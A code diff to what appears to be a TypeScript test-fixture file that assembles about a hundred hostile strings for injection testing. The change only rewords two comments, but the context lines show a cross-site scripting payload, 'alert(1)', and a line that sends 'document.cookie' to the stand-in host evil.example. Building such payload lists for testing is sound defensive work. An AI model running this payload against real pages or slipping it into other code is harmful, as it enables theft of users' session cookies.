@@ -1,4 +1,4 @@
-/** What people have tried to get past pages with: markup, scripts, breaking out of strings, odd characters. */
+/** Texts of injection attacks: markup, scripts, ends of strings, unusual characters. */
 const CODE = [
   'alert(1)',
   'fetch(`//evil.example/`+document.cookie)',
@@ -52,5 +52,5 @@ const ODD = [
   '🏄🏽‍♀️ 中文 العربية \uFFFD\uFFFE',
 ];
 
-/** A hundred of them. */
+/** 100 texts. */
 export const HOSTILE_TEXTS: readonly string[] = [...AROUND.flatMap((around) => CODE.map(around)), ...ODD];
